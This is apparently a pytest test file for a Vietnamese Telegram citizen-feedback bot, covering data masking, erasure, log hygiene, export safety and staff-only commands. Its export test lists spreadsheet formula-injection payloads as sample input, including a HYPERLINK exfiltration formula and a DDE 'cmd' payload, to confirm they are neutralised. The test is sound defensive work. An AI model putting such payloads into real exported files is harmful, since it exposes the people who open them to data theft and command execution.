"""Issue 10, items 5-7 end to end: personal data is masked, hashed and erased (backups
and restores included), exports are safe to open in Excel, staff views stay internal."""

from __future__ import annotations

import argparse
import asyncio
import csv
import io
import logging
import os
import stat
from pathlib import Path
from typing import Any

import pytest

from bot.cli import ops as cli_ops
from bot.logs import QUIET_LIBRARIES, setup_logging
from tests.conftest import ADMIN_ID
from tests.fakegram import FakeTelegram
from tests.harness import RunningBot, start_bot, stop_bot
from tests.test_feedback_e2e import ADMIN_CHAT, _after, _comments, _notice, _start, _submit

CITIZEN = 6101
GROUP = -1006101
GROUP_ADMIN = 6102


async def _forget(fake: FakeTelegram, user_id: int) -> None:
    chat = fake.private_chat(user_id)
    after = _after(chat, fake)
    fake.send_text(chat, user_id, "/forgetme")
    prompt = await fake.wait_for_message(chat, contains="Xóa dữ liệu cá nhân", after=after)
    fake.press_button(chat, user_id, prompt.message_id, "ykf:y")
    await fake.wait_for_message(chat, contains="Đã xóa dữ liệu", after=prompt.message_id)


# --- 5. personal data ---------------------------------------------------------------------------


async def test_masking_catches_formats_and_dup_key_is_a_hash_erased_on_forgetme(
    fake: FakeTelegram, bot_factory: Any
) -> None:
    bot = await _start(bot_factory, fake)
    citizen = fake.user(CITIZEN, "Hoa")
    text = (
        "Nhà tôi mất điện, gọi (0912) 345 678 hoặc +84 (0) 987 654 321, "
        "số ０９０３１１１２２２ hay sdt0977888999abc giúp tôi"
    )
    await _submit(fake, citizen, text)
    notice = await _notice(fake, 1)
    for secret in ("345 678", "654 321", "０９０３", "0903111", "7888999"):
        assert secret not in notice.content, notice.content
    row = (await _comments(bot))[0]
    for secret in ("345 678", "654 321", "0903111222", "０９０３", "0977888999"):
        assert secret not in row["text_masked"]
        assert secret.replace(" ", "") not in row["dup_key"].replace(" ", "")
    assert len(row["dup_key"]) == 64 and int(row["dup_key"], 16) >= 0  # a hash, hex
    # The same comment again is still a duplicate (the hash works).
    chat = fake.private_chat(citizen)
    after = _after(chat, fake)
    fake.send_text(chat, citizen, f"/ykien {text}")
    await fake.wait_for_message(chat, contains="đã gửi", after=after)
    await _forget(fake, CITIZEN)
    row = (await _comments(bot))[0]
    assert row["dup_key"] == "" and row["user_id"] is None


async def test_forgetme_erases_ids_on_group_rows_and_inline_makes_no_user(
    fake: FakeTelegram, bot_factory: Any
) -> None:
    bot = await _start(bot_factory, fake)
    fake.user(GROUP_ADMIN, "Trưởng nhóm")
    fake.group(GROUP, "Tổ dân phố 3", admins=[GROUP_ADMIN])
    fake.private_chat(GROUP_ADMIN)
    fake.send_text(GROUP, GROUP_ADMIN, "/dangky")
    await fake.wait_for_message(GROUP, "Đã đăng ký")
    by = await bot.svc.db.fetch_value(
        "SELECT subscribed_by FROM subscriptions WHERE chat_id = ?", (GROUP,)
    )
    assert by == GROUP_ADMIN
    await _forget(fake, GROUP_ADMIN)
    rows = await bot.svc.db.fetch_all("SELECT subscribed_by, decided_by FROM subscriptions")
    assert all(GROUP_ADMIN not in tuple(r) for r in rows)
    # Someone who never started the bot uses inline mode: no row about them.
    stranger = fake.user(6199, "Người lạ", username="nguoi_la")
    qid = fake.inline_query(stranger, "tuyen giao")
    await fake.wait_for(lambda: fake.inline_queries[qid]["answered"])
    assert await bot.svc.db.fetch_value("SELECT COUNT(*) FROM users WHERE id = 6199") == 0


async def test_debug_logging_prints_no_comment_text_nor_updates(
    fake: FakeTelegram, bot_factory: Any, caplog: pytest.LogCaptureFixture
) -> None:
    root = logging.getLogger()
    handlers = list(root.handlers)
    levels = {name: logging.getLogger(name).level for name in ("", *QUIET_LIBRARIES)}
    try:
        setup_logging("DEBUG", ["123456:TEST-token", "webhook-secret"])
        root.addHandler(caplog.handler)  # setup_logging replaced the root's handlers
        caplog.handler.setLevel(logging.DEBUG)
        bot = await _start(bot_factory, fake)
        await _submit(fake, fake.user(CITIZEN, "Hoa"), "Bí mật riêng tư của tôi: đèn hỏng ngõ 7")
        await _notice(fake, 1)
        logged = "\n".join(r.getMessage() for r in caplog.records)
        assert any(r.name.startswith("bot.") for r in caplog.records)  # capturing works
        assert "Bí mật riêng tư" not in logged
        assert "update_id" not in logged
        assert not logging.getLogger("telegram.ext.Application").isEnabledFor(logging.DEBUG)
        assert logging.getLogger("bot.handlers.feedback").isEnabledFor(logging.DEBUG)
        assert bot is not None
    finally:
        root.handlers[:] = handlers
        for name, level in levels.items():
            logging.getLogger(name).setLevel(level)


async def test_backup_is_private_and_restore_reapplies_erasures(
    settings_factory: Any, fake: FakeTelegram, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    settings = settings_factory(admin_chat_id=ADMIN_CHAT)
    bot = await start_bot(settings)
    backup = tmp_path / "saved.db"
    try:
        fake.user(ADMIN_ID, "Chủ")
        fake.group(ADMIN_CHAT, "Kiểm duyệt", supergroup=True, admins=[ADMIN_ID])
        await _submit(fake, fake.user(CITIZEN, "Hoa"), "Đề nghị sửa cống thoát nước ngõ 9")
        await asyncio.to_thread(
            cli_ops.cmd_backup, argparse.Namespace(path=str(backup), force=False), settings
        )
        assert stat.S_IMODE(os.stat(backup).st_mode) == 0o600
        await _forget(fake, CITIZEN)
    finally:
        await stop_bot(bot)
    capsys.readouterr()
    code = await asyncio.to_thread(
        cli_ops.cmd_restore, argparse.Namespace(path=str(backup), force=False), settings
    )
    assert code == 0
    err = capsys.readouterr().err
    assert "erased" in err and "1 recorded erasure" in err
    bot = await start_bot(settings)
    try:
        db = bot.svc.db
        assert await db.fetch_value("SELECT COUNT(*) FROM users WHERE id = ?", (CITIZEN,)) == 0
        assert await db.fetch_value("SELECT user_id FROM comments WHERE id = 1") is None
        assert await db.fetch_value("SELECT dup_key FROM comments WHERE id = 1") == ""
    finally:
        await stop_bot(bot)


# --- 6. exports are safe to open in Excel ---------------------------------------------------


async def test_export_neutralises_formulas(fake: FakeTelegram, bot_factory: Any) -> None:
    bot = await _start(bot_factory, fake, feedback_per_hour=0, feedback_per_day=0)
    hostile = [
        '=HYPERLINK("http://x/?"&A1,"Xem")',
        "+cmd|' /C calc'!A0 là ý kiến",
        "-2+3 là bao nhiêu vậy cán bộ",
        "@SUM(1+1) thử nghiệm công thức",
    ]
    for i, text in enumerate(hostile):
        await _submit(fake, fake.user(6200 + i, f"Người {i}"), text)
    admin = fake.user(ADMIN_ID, "Chủ")
    chat = fake.private_chat(admin)
    last = _after(chat, fake)
    fake.send_text(chat, admin, "/export 2000-01-01 31/12/2099 tatca csv")
    doc = await fake.wait_for_message(chat, after=last, predicate=lambda m: m.document)
    assert doc.document is not None
    rows = list(csv.reader(io.StringIO(doc.document.data.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells), cells
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    # The .xlsx (the default) holds them as text, never as formulas.
    from openpyxl import load_workbook

    last = _after(chat, fake)
    fake.send_text(chat, admin, "/export 2000-01-01 31/12/2099 tatca")
    doc = await fake.wait_for_message(chat, after=last, predicate=lambda m: m.document)
    assert doc.document is not None
    sheet = load_workbook(io.BytesIO(doc.document.data)).active
    assert sheet is not None
    values = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not any(c.data_type == "f" for c in values)
    assert not any(str(c.value or "")[:1] in ("=", "+", "-", "@") for c in values)
    assert await bot.svc.db.fetch_value("SELECT COUNT(*) FROM comments") == len(hostile)


# --- 7. staff views stay internal --------------------------------------------------------------


async def test_staff_views_only_in_private_or_admin_group(
    fake: FakeTelegram, bot_factory: Any
) -> None:
    bot = await _start(bot_factory, fake)
    owner = fake.user(ADMIN_ID, "Chủ", username="chu_so_huu")
    public = fake.group(-1006300, "Nhóm công khai", members=[owner])
    for command in ("/admins", "/audit", "/stats", "/reload", "/inbox", "/export", "/subscribers"):
        after = _after(public, fake)
        fake.send_text(public, owner, command)
        reply = await fake.wait_for_message(public, after=after)
        assert "chỉ làm trong cuộc trò chuyện riêng" in reply.content, (command, reply.content)
    texts = "\n".join(m.content for m in fake.bot_messages(public))
    assert str(ADMIN_ID) not in texts and "chu_so_huu" not in texts
    # The same commands work in the admin group.
    after = _after(ADMIN_CHAT, fake)
    fake.send_text(ADMIN_CHAT, owner, "/admins")
    reply = await fake.wait_for_message(ADMIN_CHAT, after=after)
    assert str(ADMIN_ID) in reply.content
    assert bot is not None


@pytest.mark.parametrize("target", ["1087968824", "136817688", "777000", "@loa_test_bot"])
async def test_grant_refuses_service_accounts_and_bots(
    fake: FakeTelegram, bot: RunningBot, target: str
) -> None:
    owner = fake.private_chat(fake.user(ADMIN_ID, "Chủ"))
    after = _after(owner, fake)
    fake.send_text(owner, ADMIN_ID, f"/grant {target} admin")
    reply = await fake.wait_for_message(owner, after=after)
    assert "tài khoản dịch vụ" in reply.content
    assert await bot.svc.db.fetch_value("SELECT COUNT(*) FROM staff_roles") == 0
